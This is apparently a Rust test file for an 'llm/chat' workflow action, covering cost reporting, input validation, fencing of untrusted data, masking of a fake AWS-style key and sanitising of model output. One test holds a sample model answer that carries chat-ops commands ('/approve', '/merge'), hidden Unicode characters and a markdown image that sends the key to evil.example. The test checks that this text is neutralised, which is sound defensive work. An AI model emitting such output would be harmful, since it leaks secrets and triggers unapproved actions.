//! `llm/chat` asks once, tells what that cost, and gives words that can do no harm.

use std::sync::Arc;
use std::time::Duration;

use codeflow_core::{ActionErrorKind, ActionOutcome, Usd};
use codeflow_model::{FinishReason, Role};
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;

use crate::answering::{Answering, catalog, ended, fenced, nobody, reply, said};
use crate::support::{call, done};

async fn chat(inputs: Value, answer: &str) -> (Value, Arc<Answering>) {
    let models = Answering::with(&[answer]);
    let outputs = done(models.run("llm/chat", inputs).await);
    (outputs, models)
}

#[tokio::test]
async fn an_answer_comes_with_who_gave_it_and_what_it_cost() {
    let (outputs, models) = chat(json!({ "prompt": "Why?", "route": "strong" }), "Because.").await;

    assert_eq!(
        outputs,
        json!({
            "text": "Because.", "finish": "stop", "provider": "openai", "model": "gpt-x", "route": "review",
            "usage": { "input": 900, "output": 40 }, "cost": 12_300, "estimated": false, "attempts": 2,
            "cached": false, "masked": 0,
        })
    );
    let ask = models.question();
    assert_eq!((ask.route.as_str(), ask.attempt, ask.call, ask.budget), ("strong", 1, 1, None));
    assert_eq!((ask.path.to_string().as_str(), ask.request.model.as_str()), ("here", ""));
    assert!(ask.within < Duration::from_secs(60), "the engine is not the first to lose patience");
    assert_eq!(said(&ask, Role::User), "Why?");
}

#[tokio::test]
async fn the_budget_of_the_workflow_goes_with_the_question() {
    let models = Answering::with(&["Yes."]);
    let mut call = call("llm/chat", json!({ "prompt": "Why?" }), vec![]);
    call.budget = Some(Usd::from_micros(400_000));

    done(catalog(models.clone()).run(call, CancellationToken::new()).await);

    assert_eq!(models.question().budget, Some(Usd::from_micros(400_000)));
}

#[tokio::test]
async fn a_conversation_keeps_its_order_and_its_roles() {
    let messages = json!([
        { "role": "user", "content": "One?" },
        { "role": "assistant", "content": "Two." },
        { "role": "user", "content": "Three?" },
    ]);
    let inputs = json!({ "messages": messages, "system": "Count.", "max_tokens": 5, "temperature": 0.5 });

    let (_, models) = chat(inputs, "Four.").await;

    let request = models.question().request;
    let roles: Vec<Role> = request.messages.iter().map(|message| message.role).collect();
    assert_eq!(roles, [Role::System, Role::User, Role::Assistant, Role::User]);
    assert_eq!((request.max_output_tokens, request.temperature), (Some(5), Some(0.5)));
}

#[tokio::test]
async fn data_is_fenced_off_and_the_rule_stands_before_it() {
    let inputs = json!({ "prompt": "Sum it up.", "system": "Be short.", "data": { "a": [1, 2] } });

    let (_, models) = chat(inputs, "3").await;

    let ask = models.question();
    let (data, marker) = fenced(&ask);
    assert_eq!(serde_json::from_str::<Value>(&data).unwrap(), json!({ "a": [1, 2] }));
    let system = said(&ask, Role::System);
    assert!(system.starts_with("Be short.\n\n") && system.contains(&marker), "{system}");
}

#[tokio::test]
async fn a_secret_in_a_question_does_not_reach_the_model() {
    let key = format!("{}{}", "AKIA", "Q3EGRZ7WNX5VTJ2K");
    let inputs = json!({ "prompt": format!("Is {key} fine?"), "system": format!("id = {key}"), "data": key });

    let (outputs, models) = chat(inputs, "No.").await;

    assert!(!format!("{:?}", models.question().request).contains(&key));
    assert_eq!(outputs["masked"], 3);
}

#[tokio::test]
async fn words_of_a_model_cannot_mention_link_command_or_leak() {
    let key = format!("{}{}", "AKIA", "Q3EGRZ7WNX5VTJ2K");
    let answer = format!(
        "/approve\nAsk @octocat about #12.\n![x](http://evil.example/?q={key}) <img src=x> <!-- x -->\n \
         /merge www.evil.example [a]: HTTPS://evil.example a\u{202e}b\u{e0041} mail a@b.example, 1 < 2"
    );

    let (outputs, _) = chat(json!({ "prompt": "Go." }), &answer).await;

    let text = outputs["text"].as_str().unwrap();
    for active in [
        "@octocat",
        "#12",
        "](",
        "://",
        "<img",
        "<!--",
        "\n/",
        "\n /",
        "www.",
        "]:",
        "\u{202e}",
        "\u{e0041}",
        &key,
    ] {
        assert!(!text.contains(active), "{active:?} in {text:?}");
    }
    assert!(!text.starts_with('/'), "{text:?}");
    for harmless in ["octocat", "a@b.example", "1 < 2", "evil.example", "[masked secrets/"] {
        assert!(text.contains(harmless), "{harmless:?} in {text:?}");
    }
}

#[tokio::test]
async fn an_answer_that_ended_early_says_so_and_an_unknown_reason_stays_itself() {
    for (finish, word) in [
        (FinishReason::Length, "length"),
        (FinishReason::ContentFilter, "content_filter"),
        (FinishReason::Other("pause_turn".to_owned()), "pause_turn"),
    ] {
        let models = Answering::of(vec![Ok(ended("Beca", finish))]);

        let outputs = done(models.run("llm/chat", json!({ "prompt": "Why?" })).await);

        assert_eq!(outputs["finish"], word);
    }
}

#[tokio::test]
async fn a_cost_that_nobody_knows_is_null_and_not_nothing() {
    let mut unpriced = reply("Because.");
    unpriced.cost = None;

    let outputs = done(Answering::of(vec![Ok(unpriced)]).run("llm/chat", json!({ "prompt": "Why?" })).await);

    assert_eq!(outputs["cost"], Value::Null);
}

#[tokio::test]
async fn questions_that_make_no_sense_are_refused_before_anybody_is_asked() {
    let question = |more: Value| {
        let mut inputs = json!({ "prompt": "Why?" });
        inputs.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        inputs
    };
    for (inputs, says) in [
        (json!({}), "`prompt` or `messages` is missing"),
        (json!({ "messages": [] }), "`prompt` or `messages` is missing"),
        (question(json!({ "messages": [{ "role": "user", "content": "x" }] })), "cannot both be given"),
        (json!({ "messages": [{ "role": "tool", "content": "x" }] }), "input `messages` is not"),
        (question(json!({ "max_tokens": 0 })), "must be at least 1"),
        (question(json!({ "temperature": 3 })), "must be between 0 and 2"),
        (question(json!({ "route": " " })), "input `route` is empty"),
        (json!({ "prompt": "x".repeat(5 << 20) }), "larger than 4 MiB"),
    ] {
        let models = Answering::with(&["Never."]);

        let error = models.run("llm/chat", inputs).await.unwrap_err();

        assert_eq!(error.kind, ActionErrorKind::InvalidInput, "{error:?}");
        assert!(error.message.contains(says), "{error}");
        assert!(models.asked().is_empty());
    }
}

#[tokio::test]
async fn without_anybody_to_ask_every_question_stands_aside_and_says_why() {
    let schema = json!({ "type": "object" });
    for (uses, inputs) in [
        ("llm/chat", json!({ "prompt": "Why?" })),
        ("llm/extract", json!({ "text": "x", "schema": schema })),
        ("llm/review", json!({ "diff": {}, "route": "review" })),
    ] {
        let outcome = nobody().run(call(uses, inputs, vec![]), CancellationToken::new()).await.unwrap();

        let ActionOutcome::Skipped(why) = outcome else { panic!("{outcome:?}") };
        assert_eq!(why.code, "action.no_provider");
        assert_eq!(why.message, "no model provider is configured, so no model was asked");
    }
}

#[tokio::test]
async fn a_route_that_nobody_serves_is_named() {
    let models = Answering::with(&["Never."]);

    let outcome = models.run("llm/chat", json!({ "prompt": "Why?", "route": "nobody" })).await.unwrap();

    let ActionOutcome::Skipped(why) = outcome else { panic!("{outcome:?}") };
    assert_eq!(why.message, "nobody serves the route `nobody`");
    assert!(models.asked().is_empty());
}
